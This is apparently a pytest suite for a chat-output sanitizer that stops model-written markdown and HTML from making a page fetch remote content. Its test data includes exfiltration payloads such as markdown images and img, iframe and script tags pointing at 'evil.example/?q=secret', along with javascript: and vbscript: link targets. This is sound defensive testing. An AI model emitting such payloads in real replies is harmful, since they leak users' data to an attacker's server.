"""What a model wrote makes no page fetch anything, however it comes in pieces, and reads as it did."""

from __future__ import annotations

import pytest

from chat.harmless import BREAK, Harmless, harmless
from chat.html import HtmlWriter, as_html

EVIL = "https://evil.example/?q=secret"
FETCHING = [
    f"![a]({EVIL})",
    f"![a[b]c]({EVIL})",
    "![a][b]",
    "![a]",
    f"<img src={EVIL}>",
    f"<IMG/src={EVIL}>",
    f"<iframe src={EVIL}>",
    f"<div style='background:url({EVIL})'>",
    f"<div style='background:URL ({EVIL})'>",
    f"<table background={EVIL}>",
    f"<script src={EVIL}></script>",
]


def in_pieces(text, size):
    writer = Harmless()
    said = [writer.feed(text[place : place + size]) for place in range(0, len(text), size)]
    return "".join([*said, writer.close()])


@pytest.mark.parametrize("text", FETCHING)
@pytest.mark.parametrize("size", [1, 2, 5, 500])
def test_what_fetches_is_broken_in_pieces_as_in_whole(text, size):
    broken = in_pieces(f"So: {text} end", size)
    assert broken == harmless(f"So: {text} end")
    assert BREAK in broken
    assert broken.replace(BREAK, "") == f"So: {text} end"


@pytest.mark.parametrize("text", ["[1](https://evil.example)", "[12]: https://evil.example"])
@pytest.mark.parametrize("size", [1, 4, 500])
def test_a_citation_becomes_no_link(text, size):
    assert in_pieces(text, size) == text.replace("]", f"]{BREAK}")


@pytest.mark.parametrize(
    "text",
    [
        "Done! [1] It costs 5 < 6 and a<b. See [the manual](https://example.com), [2][3].",
        "List<String> names; vector<int> x; url = true",
        "Is it? Yes! <https://example.com> (see [4]).",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 500])
def test_ordinary_text_stays_as_it_was(text, size):
    assert in_pieces(text, size) == text


@pytest.mark.parametrize("text", FETCHING)
@pytest.mark.parametrize("clean", [str, harmless])
def test_html_has_no_tag_that_fetches(text, clean):
    html = as_html(clean(text))
    assert "<img" not in html
    assert "<iframe" not in html
    assert "<script" not in html
    assert "<div" not in html


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "data:text/html,x", "/documents/1", "//evil.example", "vbscript:x"]
)
def test_links_lead_to_the_web_or_to_mail_only(target):
    assert "href" not in as_html(f"[a]({target})")


def test_good_links_say_what_they_are():
    html = as_html("[a](https://example.com) and <mailto:a@example.com>")
    assert html.count('rel="noopener noreferrer nofollow"') == 2


MARKDOWN = "One **bold** word. [1]\n\n- a\n- b\n\n```\nx\n\ny < z\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThe end."


@pytest.mark.parametrize("size", [1, 7, 1000])
def test_html_comes_in_whole_blocks_and_says_the_same(size):
    writer = HtmlWriter()
    pieces = [writer.feed(MARKDOWN[place : place + size]) for place in range(0, len(MARKDOWN), size)]
    blocks = [block for block in [*pieces, writer.close()] if block]
    html = "".join(block.text for block in blocks)
    assert html == as_html(MARKDOWN)
    assert sum(block.length for block in blocks) == len(MARKDOWN)
    assert "<table>" in html
    assert "<strong>bold</strong>" in html
    assert size == 1000 or sum(map(bool, pieces)) >= 2
